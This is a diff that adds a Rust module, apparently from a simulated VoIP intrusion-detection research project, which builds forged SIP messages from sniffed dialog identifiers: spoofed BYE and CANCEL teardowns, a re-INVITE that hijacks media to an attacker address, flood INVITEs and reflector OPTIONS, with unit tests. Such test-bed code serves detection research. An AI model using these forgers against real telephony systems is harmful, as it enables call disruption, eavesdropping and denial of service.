@@ -1,0 +1,341 @@
+//! Forged-message construction.
+//!
+//! The paper's spoofing attacks work because "without proper authentication,
+//! the receiving UA cannot differentiate the spoofed CANCEL message from the
+//! genuine one" (§3.1). These helpers build byte-exact impersonations from a
+//! [`DialogSnapshot`] — the identifiers an on-path attacker would sniff.
+
+use vids_agents::call::CallCtx;
+use vids_netsim::packet::Address;
+use vids_sdp::{Codec, SessionDescription};
+use vids_sip::headers::{CSeq, Header, NameAddr, Via};
+use vids_sip::message::Request;
+use vids_sip::{Method, SipUri};
+
+/// Which dialog party the forged message is delivered to.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Target {
+    /// Attack the caller's UA.
+    Caller,
+    /// Attack the callee's UA.
+    Callee,
+}
+
+/// Everything an attacker needs to impersonate a party of a live dialog.
+#[derive(Debug, Clone)]
+pub struct DialogSnapshot {
+    /// The dialog's Call-ID.
+    pub call_id: String,
+    /// Caller identity: From header with its tag.
+    pub caller_from: NameAddr,
+    /// Callee identity: To header with its tag.
+    pub callee_to: NameAddr,
+    /// Caller's signaling address.
+    pub caller_addr: Address,
+    /// Callee's signaling address.
+    pub callee_addr: Address,
+    /// Where the *callee* receives media (caller's RTP destination).
+    pub callee_media: Option<Address>,
+    /// Where the *caller* receives media.
+    pub caller_media: Option<Address>,
+    /// SSRC of the caller's outgoing stream.
+    pub caller_ssrc: Option<u32>,
+    /// Caller's current outgoing RTP sequence number / timestamp.
+    pub caller_rtp_cursor: Option<(u16, u32)>,
+    /// Via branch of the original INVITE.
+    pub invite_branch: String,
+}
+
+impl DialogSnapshot {
+    /// Sniffs a dialog from the *caller's* call context (the caller knows
+    /// every identifier: its own tag, the answered To tag, the SDP media
+    /// coordinates and its stream's SSRC and cursor).
+    pub fn from_caller(call: &CallCtx, caller_addr: Address, callee_addr: Address) -> Self {
+        let caller_from = call
+            .invite
+            .headers
+            .from_header()
+            .cloned()
+            .unwrap_or_else(|| NameAddr::new(SipUri::new("unknown", "invalid")));
+        let mut callee_to = call
+            .invite
+            .headers
+            .to_header()
+            .cloned()
+            .unwrap_or_else(|| NameAddr::new(SipUri::new("unknown", "invalid")));
+        if !call.dialog.remote_tag.is_empty() {
+            callee_to.set_tag(call.dialog.remote_tag.clone());
+        }
+        let media = call.media.as_ref();
+        DialogSnapshot {
+            call_id: call.dialog.call_id.clone(),
+            caller_from,
+            callee_to,
+            caller_addr,
+            callee_addr,
+            callee_media: media.map(|m| m.peer),
+            caller_media: media.map(|m| Address {
+                ip: caller_addr.ip,
+                port: m.local_port,
+            }),
+            caller_ssrc: media.map(|m| m.ssrc),
+            caller_rtp_cursor: media.map(|m| (m.seq, m.timestamp)),
+            invite_branch: call
+                .invite
+                .headers
+                .top_via()
+                .and_then(|v| v.branch())
+                .unwrap_or("z9hG4bK-unknown")
+                .to_owned(),
+        }
+    }
+
+    /// The party addresses for a given target: `(victim, impersonated)`.
+    pub fn endpoints(&self, target: Target) -> (Address, Address) {
+        match target {
+            Target::Caller => (self.caller_addr, self.callee_addr),
+            Target::Callee => (self.callee_addr, self.caller_addr),
+        }
+    }
+}
+
+fn base_in_dialog(snap: &DialogSnapshot, target: Target, method: Method, cseq: u32) -> Request {
+    let (from, to, spoof_ip) = match target {
+        // Attacking the callee: impersonate the caller.
+        Target::Callee => (
+            snap.caller_from.clone(),
+            snap.callee_to.clone(),
+            snap.caller_addr.ip_string(),
+        ),
+        // Attacking the caller: impersonate the callee (dialog reversed).
+        Target::Caller => (
+            snap.callee_to.clone(),
+            snap.caller_from.clone(),
+            snap.callee_addr.ip_string(),
+        ),
+    };
+    let mut req = Request::new(method, to.uri().clone());
+    req.headers.push(Header::Via(Via::udp(
+        spoof_ip,
+        vids_sip::DEFAULT_SIP_PORT,
+        format!("z9hG4bK-atk-{}-{}", method.as_str().to_ascii_lowercase(), cseq),
+    )));
+    req.headers.push(Header::MaxForwards(70));
+    req.headers.push(Header::From(from));
+    req.headers.push(Header::To(to));
+    req.headers.push(Header::CallId(snap.call_id.clone()));
+    req.headers.push(Header::CSeq(CSeq::new(cseq, method)));
+    req.headers.push(Header::ContentLength(0));
+    req
+}
+
+/// Forges the BYE of §3.1's BYE DoS: "suddenly malicious UA-C sends a BYE
+/// message to either UAs, A or B. The receiving UA will prematurely
+/// teardown the established call assuming that it is requested by the
+/// partner UA."
+pub fn spoofed_bye(snap: &DialogSnapshot, target: Target) -> String {
+    base_in_dialog(snap, target, Method::Bye, 20).to_string()
+}
+
+/// Forges the CANCEL of §3.1's CANCEL DoS, matching the pending INVITE.
+pub fn spoofed_cancel(snap: &DialogSnapshot) -> String {
+    let mut req = base_in_dialog(snap, Target::Callee, Method::Cancel, 1);
+    // A CANCEL matches the INVITE transaction: reuse its branch.
+    req.headers.pop_via();
+    req.headers.push_front(Header::Via(Via::udp(
+        snap.caller_addr.ip_string(),
+        vids_sip::DEFAULT_SIP_PORT,
+        snap.invite_branch.clone(),
+    )));
+    req.to_string()
+}
+
+/// Forges the call-hijacking re-INVITE of §3.1: "a new INVITE request could
+/// be send within a pre-existing dialog", redirecting the victim's media to
+/// the attacker.
+pub fn spoofed_reinvite(snap: &DialogSnapshot, attacker_media: Address) -> String {
+    let mut req = base_in_dialog(snap, Target::Callee, Method::Invite, 30);
+    let sdp = SessionDescription::audio_offer(
+        "hijack",
+        &attacker_media.ip_string(),
+        attacker_media.port,
+        &[Codec::G729],
+    );
+    let req = {
+        req.headers.push(Header::Contact(NameAddr::new(SipUri::new(
+            "hijack",
+            attacker_media.ip_string(),
+        ))));
+        req.with_body(vids_sdp::MIME_TYPE, sdp.to_string())
+    };
+    req.to_string()
+}
+
+/// Builds one flooding INVITE (fresh identity and Call-ID per packet).
+pub fn flood_invite(
+    target_uri: &SipUri,
+    attacker_addr: Address,
+    caller_user: &str,
+    call_id: &str,
+) -> String {
+    let from_uri = SipUri::new(caller_user, attacker_addr.ip_string());
+    let mut req = Request::new(Method::Invite, target_uri.clone());
+    req.headers.push(Header::Via(Via::udp(
+        attacker_addr.ip_string(),
+        attacker_addr.port,
+        format!("z9hG4bK-{call_id}"),
+    )));
+    req.headers.push(Header::MaxForwards(70));
+    req.headers.push(Header::From(
+        NameAddr::new(from_uri.clone()).with_tag(format!("t-{call_id}")),
+    ));
+    req.headers.push(Header::To(NameAddr::new(target_uri.clone())));
+    req.headers.push(Header::CallId(call_id.to_owned()));
+    req.headers.push(Header::CSeq(CSeq::new(1, Method::Invite)));
+    req.headers.push(Header::Contact(NameAddr::new(from_uri)));
+    let sdp = SessionDescription::audio_offer(
+        caller_user,
+        &attacker_addr.ip_string(),
+        40_000,
+        &[Codec::G729],
+    );
+    req.with_body(vids_sdp::MIME_TYPE, sdp.to_string()).to_string()
+}
+
+/// Builds a reflector probe: OPTIONS addressed to the reflector proxy with
+/// a Via naming the victim, so the 200 is "reflected" onto the victim.
+pub fn reflector_options(reflector: Address, victim: Address, call_id: &str) -> String {
+    let mut req = Request::new(Method::Options, SipUri::host_only(reflector.ip_string()));
+    req.headers.push(Header::Via(Via::udp(
+        victim.ip_string(),
+        victim.port,
+        format!("z9hG4bK-{call_id}"),
+    )));
+    req.headers.push(Header::MaxForwards(70));
+    req.headers.push(Header::From(
+        NameAddr::new(SipUri::new("scanner", victim.ip_string())).with_tag("t1"),
+    ));
+    req.headers.push(Header::To(NameAddr::new(SipUri::host_only(
+        reflector.ip_string(),
+    ))));
+    req.headers.push(Header::CallId(call_id.to_owned()));
+    req.headers.push(Header::CSeq(CSeq::new(1, Method::Options)));
+    req.headers.push(Header::ContentLength(0));
+    req.to_string()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use vids_netsim::time::SimTime;
+    use vids_sip::parse::parse_message;
+
+    fn snapshot() -> DialogSnapshot {
+        let invite = Request::invite(
+            &SipUri::new("ua1", "a.example.com"),
+            &SipUri::new("ua0", "b.example.com"),
+            "victim-call",
+        );
+        let mut call = CallCtx::caller(invite, SimTime::ZERO, SimTime::from_secs(60), 0);
+        call.dialog.remote_tag = "callee-tag".to_owned();
+        call.media = Some(vids_agents::call::MediaSession::new(
+            Address::new(10, 2, 0, 10, 30_000),
+            20_000,
+            0xFEEDFACE,
+            Codec::G729,
+        ));
+        DialogSnapshot::from_caller(
+            &call,
+            Address::new(10, 1, 0, 11, 5060),
+            Address::new(10, 2, 0, 10, 5060),
+        )
+    }
+
+    #[test]
+    fn snapshot_captures_dialog_identifiers() {
+        let snap = snapshot();
+        assert_eq!(snap.call_id, "victim-call");
+        assert_eq!(snap.caller_from.tag(), Some("tag-ua1"));
+        assert_eq!(snap.callee_to.tag(), Some("callee-tag"));
+        assert_eq!(snap.caller_ssrc, Some(0xFEEDFACE));
+        assert_eq!(snap.callee_media, Some(Address::new(10, 2, 0, 10, 30_000)));
+        assert_eq!(snap.caller_media, Some(Address::new(10, 1, 0, 11, 20_000)));
+    }
+
+    #[test]
+    fn spoofed_bye_parses_and_matches_dialog() {
+        let snap = snapshot();
+        let bye = spoofed_bye(&snap, Target::Callee);
+        let msg = parse_message(&bye).unwrap();
+        assert_eq!(msg.method(), Some(Method::Bye));
+        assert_eq!(msg.call_id(), "victim-call");
+        // Impersonates the caller toward the callee.
+        assert_eq!(
+            msg.headers().from_header().unwrap().tag(),
+            Some("tag-ua1")
+        );
+        assert_eq!(
+            msg.headers().to_header().unwrap().tag(),
+            Some("callee-tag")
+        );
+    }
+
+    #[test]
+    fn spoofed_bye_toward_caller_reverses_identities() {
+        let snap = snapshot();
+        let bye = spoofed_bye(&snap, Target::Caller);
+        let msg = parse_message(&bye).unwrap();
+        assert_eq!(
+            msg.headers().from_header().unwrap().tag(),
+            Some("callee-tag")
+        );
+        let (victim, impersonated) = snap.endpoints(Target::Caller);
+        assert_eq!(victim, snap.caller_addr);
+        assert_eq!(impersonated, snap.callee_addr);
+    }
+
+    #[test]
+    fn spoofed_cancel_reuses_invite_branch() {
+        let snap = snapshot();
+        let cancel = spoofed_cancel(&snap);
+        let msg = parse_message(&cancel).unwrap();
+        assert_eq!(msg.method(), Some(Method::Cancel));
+        assert_eq!(
+            msg.headers().top_via().unwrap().branch(),
+            Some(snap.invite_branch.as_str())
+        );
+    }
+
+    #[test]
+    fn spoofed_reinvite_redirects_media_to_attacker() {
+        let snap = snapshot();
+        let attacker_media = Address::new(10, 0, 0, 10, 44_000);
+        let reinvite = spoofed_reinvite(&snap, attacker_media);
+        let msg = parse_message(&reinvite).unwrap();
+        assert_eq!(msg.method(), Some(Method::Invite));
+        let sdp: SessionDescription = msg.body().parse().unwrap();
+        assert_eq!(sdp.media_addr(), "10.0.0.10");
+        assert_eq!(sdp.first_audio().unwrap().port, 44_000);
+    }
+
+    #[test]
+    fn flood_invite_has_unique_identity() {
+        let target = SipUri::new("ua0", "b.example.com");
+        let a = flood_invite(&target, Address::new(10, 0, 0, 10, 5060), "z1", "f-1");
+        let b = flood_invite(&target, Address::new(10, 0, 0, 10, 5060), "z2", "f-2");
+        let ma = parse_message(&a).unwrap();
+        let mb = parse_message(&b).unwrap();
+        assert_ne!(ma.call_id(), mb.call_id());
+        assert!(!ma.body().is_empty(), "flood INVITE carries SDP");
+    }
+
+    #[test]
+    fn reflector_options_names_victim_in_via() {
+        let reflector = Address::new(10, 2, 0, 5, 5060);
+        let victim = Address::new(10, 2, 0, 20, 5060);
+        let opts = reflector_options(reflector, victim, "d1");
+        let msg = parse_message(&opts).unwrap();
+        assert_eq!(msg.method(), Some(Method::Options));
+        assert_eq!(msg.headers().top_via().unwrap().host(), "10.2.0.20");
+    }
+}
